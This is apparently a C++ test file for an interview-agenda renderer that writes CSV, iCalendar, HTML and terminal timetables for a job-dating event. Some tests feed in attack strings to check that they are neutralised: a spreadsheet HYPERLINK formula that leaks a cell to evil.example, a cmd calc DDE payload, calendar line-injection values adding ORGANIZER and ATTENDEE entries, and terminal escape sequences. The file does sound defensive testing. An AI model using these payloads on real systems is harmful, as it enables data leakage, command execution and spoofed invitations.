// Agenda rendering: every interview appears once in the right file, and every format's
// rules hold (CSV quoting, iCalendar line length, CRLF and escaping, HTML escaping).
#include "clients/agenda.h"

#include <libical/ical.h>

#include <cstring>
#include <filesystem>
#include <memory>

#include "absl/strings/match.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace matching::clients {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

v1::Event PlannedEvent() {
  v1::Event event;
  event.set_id("ev-1");
  event.set_name("Job dating, Meurthe-et-Moselle; <Paris>");
  event.set_place("Maison de la Lorraine, Paris");
  event.set_date("2027-03-12");
  for (const auto& [id, start] : {std::pair{"s2", "09:20"}, std::pair{"s1", "09:00"}}) {
    v1::Slot* slot = event.add_slots();
    slot->set_id(id);
    slot->set_start_time(start);
    slot->set_duration_minutes(20);
  }
  v1::Booth* booth = event.add_booths();
  booth->set_id("b-luneville");
  booth->set_label("MSP de Lunéville & environs");
  booth->add_offer_ids("of-luneville-msp");
  event.add_booths()->set_id("b-toul");
  for (const char* c : {"cand-1", "cand-2", "cand-3"})
    event.add_registrations()->set_candidate_id(c);
  auto add = [&](const char* candidate, const char* booth_id, const char* slot, const char* start) {
    v1::Interview* i = event.mutable_plan()->add_interviews();
    i->set_candidate_id(candidate);
    i->set_booth_id(booth_id);
    i->set_slot_id(slot);
    i->set_start_time(start);
    i->set_duration_minutes(20);
    i->set_offer_id("of-x");
    i->set_score(0.75);
  };
  add("cand-1", "b-luneville", "s2", "09:20");
  add("cand-2", "b-luneville", "s1", "09:00");
  add("cand-1", "b-toul", "s1", "09:00");
  event.mutable_plan()->set_registrants_served(2);
  event.mutable_plan()->set_total_score(2.25);
  event.mutable_plan()->set_upper_bound(2.25);
  event.mutable_plan()->set_plan_time("2026-11-23T10:00:00Z");
  return event;
}

TEST(AgendaTest, CsvHasOneQuotedRowPerInterview) {
  const std::string csv = AgendaCsv(PlannedEvent());
  std::vector<std::string> lines = absl::StrSplit(csv, "\r\n", absl::SkipEmpty());
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_EQ(lines[0],
            "event_id,date,start,end,slot_id,booth_id,booth_label,candidate_id,offer_id,score");
  // libcsv quotes every field and doubles inner quotes (RFC 4180).
  EXPECT_THAT(lines[1], HasSubstr("\"09:20\",\"09:40\",\"s2\",\"b-luneville\","));
  EXPECT_THAT(csv, HasSubstr("\"MSP de Lunéville & environs\""));
  v1::Event quoted = PlannedEvent();
  quoted.mutable_booths(0)->set_label("MSP \"Les Tilleuls\", Lunéville");
  EXPECT_THAT(AgendaCsv(quoted), HasSubstr("\"MSP \"\"Les Tilleuls\"\", Lunéville\""));
}

TEST(AgendaTest, CsvCellsThatSpreadsheetsTakeForFormulasAreNeutralised) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(0)->set_label("=HYPERLINK(\"http://evil.example/?\"&H2,\"Voir\")");
  event.mutable_plan()->mutable_interviews(1)->set_candidate_id("@SUM(1+1)*cmd|' /C calc'!A0");
  event.mutable_plan()->mutable_interviews(2)->set_offer_id("-2+3");
  event.mutable_plan()->mutable_interviews(2)->set_score(-0.5);
  const std::string csv = AgendaCsv(event);
  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&H2,\"\"Voir\"\")\","));
  EXPECT_THAT(csv, HasSubstr(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","));
  EXPECT_THAT(csv, HasSubstr(",\"'-2+3\","));
  EXPECT_THAT(csv, HasSubstr(",\"-0.500\"\r\n"));  // a score we format stays a number
  // No cell, once unquoted, starts with a formula character.
  for (absl::string_view line : absl::StrSplit(csv, "\r\n", absl::SkipEmpty())) {
    for (absl::string_view cell : absl::StrSplit(line, "\",\"")) {
      cell = absl::StripPrefix(cell, "\"");
      if (cell == "-0.500\"") continue;
      ASSERT_FALSE(cell.empty()) << line;
      EXPECT_EQ(absl::string_view("=+-@\t\r").find(cell.front()), absl::string_view::npos) << line;
    }
  }
}

TEST(AgendaTest, CandidateCalendarHoldsTheirInterviewsInTimeOrder) {
  const std::string ics = AgendaIcs(PlannedEvent(), {Participant::Kind::kCandidate, "cand-1"});
  EXPECT_THAT(ics, ::testing::StartsWith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"));
  EXPECT_THAT(ics, ::testing::EndsWith("END:VCALENDAR\r\n"));
  const size_t first = ics.find("DTSTART;TZID=Europe/Paris:20270312T090000");
  const size_t second = ics.find("DTSTART;TZID=Europe/Paris:20270312T092000");
  ASSERT_NE(first, std::string::npos) << ics;
  ASSERT_NE(second, std::string::npos);
  EXPECT_LT(first, second);
  EXPECT_THAT(ics, HasSubstr("DTEND;TZID=Europe/Paris:20270312T094000"));
  EXPECT_THAT(ics, HasSubstr("UID:ev-1-b-toul-cand-1@matchd"));
  EXPECT_THAT(ics, HasSubstr("DTSTAMP:20261123T100000Z"));
  EXPECT_THAT(ics, HasSubstr("LOCATION:Maison de la Lorraine\\, Paris"));
  EXPECT_THAT(ics, HasSubstr("BEGIN:VTIMEZONE\r\nTZID:Europe/Paris"));
  EXPECT_THAT(ics, Not(HasSubstr("cand-2")));
  size_t events = 0;
  for (size_t at = ics.find("BEGIN:VEVENT"); at != std::string::npos;
       at = ics.find("BEGIN:VEVENT", at + 1)) {
    ++events;
  }
  EXPECT_EQ(events, 2u);
}

TEST(AgendaTest, CalendarLinesAreFoldedAt75OctetsWithCrlf) {
  v1::Event event = PlannedEvent();
  event.set_place(std::string(200, 'e') + "é" + std::string(100, 'x'));
  const std::string ics = AgendaIcs(event, {Participant::Kind::kBooth, "b-luneville"});
  for (absl::string_view line : absl::StrSplit(ics, "\r\n")) {
    EXPECT_LE(line.size(), 75u) << line;
    EXPECT_EQ(line.find('\n'), absl::string_view::npos);
  }
  // Unfolding (remove CRLF + space) gives back the value, accents intact.
  std::string unfolded = ics;
  for (size_t at; (at = unfolded.find("\r\n ")) != std::string::npos;) unfolded.erase(at, 3);
  EXPECT_THAT(unfolded, HasSubstr(std::string(200, 'e') + "é" + std::string(100, 'x')));
}

// The calendar's content lines as a lenient parser would see them: unfolded, then split on
// every line break some parser honours (CR or LF alone, VT, FF, FS, GS, RS, NEL, U+2028,
// U+2029: Python's str.splitlines() takes them all).
std::vector<std::string> LenientLines(std::string ics) {
  for (const char* fold : {"\r\n ", "\r\n\t"}) {
    for (size_t at; (at = ics.find(fold)) != std::string::npos;) ics.erase(at, 3);
  }
  for (const char* line_break : {"\xc2\x85", "\xe2\x80\xa8", "\xe2\x80\xa9"}) {
    for (size_t at; (at = ics.find(line_break)) != std::string::npos;)
      ics.replace(at, std::strlen(line_break), "\n");
  }
  return absl::StrSplit(ics, absl::ByAnyChar("\r\n\v\f\x1c\x1d\x1e"), absl::SkipEmpty());
}

struct IcalFree {
  void operator()(icalcomponent* component) const { icalcomponent_free(component); }
};

std::vector<std::string> PropertyTexts(icalcomponent* calendar, icalproperty_kind kind) {
  std::vector<std::string> texts;
  for (icalcomponent* e = icalcomponent_get_first_component(calendar, ICAL_VEVENT_COMPONENT);
       e != nullptr; e = icalcomponent_get_next_component(calendar, ICAL_VEVENT_COMPONENT)) {
    for (icalproperty* p = icalcomponent_get_first_property(e, kind); p != nullptr;
         p = icalcomponent_get_next_property(e, kind)) {
      texts.push_back(icalvalue_as_ical_string(icalproperty_get_value(p)));
    }
  }
  return texts;
}

TEST(AgendaTest, CalendarTextCannotStartANewContentLine) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(0)->set_label("Bar\rORGANIZER:mailto:boss@evil.example");
  event.set_name("Job dating\vATTENDEE:mailto:a@evil.example\x1b[2J");
  event.set_place("Nancy\xc2\x85ORGANIZER:mailto:nel@evil.example");
  const OfferTitles titles = {{"of-x", "MSP\xe2\x80\xa8ORGANIZER:mailto:ls@evil.example\x7f"}};
  for (const Participant& who : {Participant{Participant::Kind::kCandidate, "cand-1"},
                                 Participant{Participant::Kind::kBooth, "b-luneville"}}) {
    const std::string ics = AgendaIcs(event, who, titles);
    for (const std::string& line : LenientLines(ics)) {
      EXPECT_FALSE(absl::StartsWith(line, "ORGANIZER")) << line;
      EXPECT_FALSE(absl::StartsWith(line, "ATTENDEE")) << line;
    }
    // No control character anywhere but the CRLF that end lines.
    for (size_t i = 0; i < ics.size(); ++i) {
      const auto byte = static_cast<unsigned char>(ics[i]);
      if (byte == '\r') {
        EXPECT_EQ(ics[i + 1], '\n') << i;
      }
      if (byte == '\n') {
        EXPECT_EQ(ics[i - 1], '\r') << i;
      }
      EXPECT_TRUE(byte >= 0x20 || byte == '\r' || byte == '\n') << i << ": " << ics;
      EXPECT_NE(byte, 0x7F);
      if (byte == 0xC2) {
        EXPECT_GT(static_cast<unsigned char>(ics[i + 1]), 0x9F) << i;
      }
    }
    // libical reads it back: no organizer or attendee, the label kept as text.
    std::unique_ptr<icalcomponent, IcalFree> parsed(icalparser_parse_string(ics.c_str()));
    ASSERT_NE(parsed, nullptr);
    EXPECT_EQ(icalcomponent_count_components(parsed.get(), ICAL_VEVENT_COMPONENT), 2);
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_ORGANIZER_PROPERTY), ::testing::IsEmpty());
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_ATTENDEE_PROPERTY), ::testing::IsEmpty());
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_LOCATION_PROPERTY),
                ::testing::Each("Nancy ORGANIZER:mailto:nel@evil.example"));
  }
  std::unique_ptr<icalcomponent, IcalFree> booth(icalparser_parse_string(
      AgendaIcs(event, {Participant::Kind::kCandidate, "cand-1"}, titles).c_str()));
  EXPECT_THAT(PropertyTexts(booth.get(), ICAL_SUMMARY_PROPERTY),
              ::testing::Contains("Entretien — Recruteur Bar ORGANIZER:mailto:boss@evil.example"));
}

TEST(AgendaTest, CalendarParsesBackWithLibical) {
  const std::string ics = AgendaIcs(PlannedEvent(), {Participant::Kind::kCandidate, "cand-1"},
                                    {{"of-x", "Médecin généraliste; MSP, Lunéville"}});
  std::unique_ptr<icalcomponent, IcalFree> calendar(icalparser_parse_string(ics.c_str()));
  ASSERT_NE(calendar, nullptr);
  EXPECT_EQ(icalcomponent_count_components(calendar.get(), ICAL_VTIMEZONE_COMPONENT), 1);
  icalcomponent* first = icalcomponent_get_first_component(calendar.get(), ICAL_VEVENT_COMPONENT);
  ASSERT_NE(first, nullptr);
  icalproperty* start = icalcomponent_get_first_property(first, ICAL_DTSTART_PROPERTY);
  ASSERT_NE(start, nullptr);
  icalparameter* tzid = icalproperty_get_first_parameter(start, ICAL_TZID_PARAMETER);
  ASSERT_NE(tzid, nullptr);
  EXPECT_STREQ(icalparameter_get_tzid(tzid), "Europe/Paris");
  EXPECT_STREQ(icaltime_as_ical_string(icalproperty_get_dtstart(start)), "20270312T090000");
  EXPECT_STREQ(icalcomponent_get_summary(first), "Entretien — Recruteur b-toul");
  EXPECT_STREQ(icalcomponent_get_location(first), "Maison de la Lorraine, Paris");
  EXPECT_STREQ(icalcomponent_get_description(first),
               "Job dating, Meurthe-et-Moselle; <Paris>\noffre : Médecin généraliste; MSP, "
               "Lunéville\nscore 0.75");
  EXPECT_STREQ(icalcomponent_get_uid(first), "ev-1-b-toul-cand-1@matchd");
  EXPECT_STREQ(icaltime_as_ical_string(icalcomponent_get_dtend(first)), "20270312T092000");
}

TEST(AgendaTest, HtmlIsEscapedAndPerParticipant) {
  const v1::Event event = PlannedEvent();
  const std::string booth = AgendaHtml(event, {Participant::Kind::kBooth, "b-luneville"});
  EXPECT_THAT(booth, HasSubstr("&lt;Paris&gt;"));
  EXPECT_THAT(booth, Not(HasSubstr("<Paris>")));
  EXPECT_THAT(booth, HasSubstr("MSP de Lunéville &amp; environs"));
  EXPECT_THAT(booth, HasSubstr("cand-1"));
  EXPECT_THAT(booth, HasSubstr("cand-2"));
  EXPECT_LT(booth.find("cand-2"), booth.find("cand-1"));  // 09:00 before 09:20
  const std::string titled = AgendaHtml(event, {Participant::Kind::kCandidate, "cand-1"},
                                        {{"of-x", "Médecin généraliste en MSP, Lunéville"}});
  EXPECT_THAT(titled, HasSubstr("Médecin généraliste en MSP, Lunéville"));
  const std::string idle = AgendaHtml(event, {Participant::Kind::kCandidate, "cand-3"});
  EXPECT_THAT(idle, HasSubstr("Aucun entretien"));
  const std::string index = AgendaIndexHtml(event);
  EXPECT_THAT(index, HasSubstr("href=\"html/candidate-cand-3.html\""));
  EXPECT_THAT(index, HasSubstr("href=\"html/booth-b-toul.html\""));
}

TEST(AgendaTest, TimetableIsSlotsByBoothsInTimeOrderWithTheSummary) {
  const std::string table = Timetable(PlannedEvent());
  const size_t early = table.find("09:00-09:20");
  const size_t late = table.find("09:20-09:40");
  ASSERT_NE(early, std::string::npos) << table;
  EXPECT_LT(early, late);
  EXPECT_THAT(table, HasSubstr("MSP de Lunéville & environs"));
  EXPECT_THAT(table, HasSubstr("3 interviews, 2 of 3 registrants served"));
}

TEST(AgendaTest, TimetableShowsEscapeSequencesFromTheEventEscaped) {
  v1::Event event = PlannedEvent();
  event.set_name("Job dating\x1b]0;owned\x07");
  event.set_place("Nancy\x1b[2J");
  event.mutable_booths(0)->set_label(
      "MSP\x1b[31m\xc2\x9b"
      "2J");
  const std::string table = Timetable(event);
  for (char c : table) {
    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << table;
  }
  EXPECT_THAT(table, HasSubstr("Job dating\\x1b]0;owned\\x07 — 2027-03-12, Nancy\\x1b[2J"));
  EXPECT_THAT(table, HasSubstr("MSP\\x1b[31m\\u009b2J"));
}

TEST(AgendaTest, WritesEveryFile) {
  const std::string dir = ::testing::TempDir() + "/agenda-test";
  std::filesystem::remove_all(dir);
  int written = 0;
  ASSERT_TRUE(WriteAgendas(PlannedEvent(), dir, {}, &written).ok());
  EXPECT_EQ(written, 2 + 2 * 5);  // csv, index, and ics + html for 3 candidates and 2 booths
  EXPECT_TRUE(std::filesystem::exists(dir + "/ics/candidate-cand-1.ics"));
  EXPECT_TRUE(std::filesystem::exists(dir + "/html/booth-b-toul.html"));
}

}  // namespace
}  // namespace matching::clients
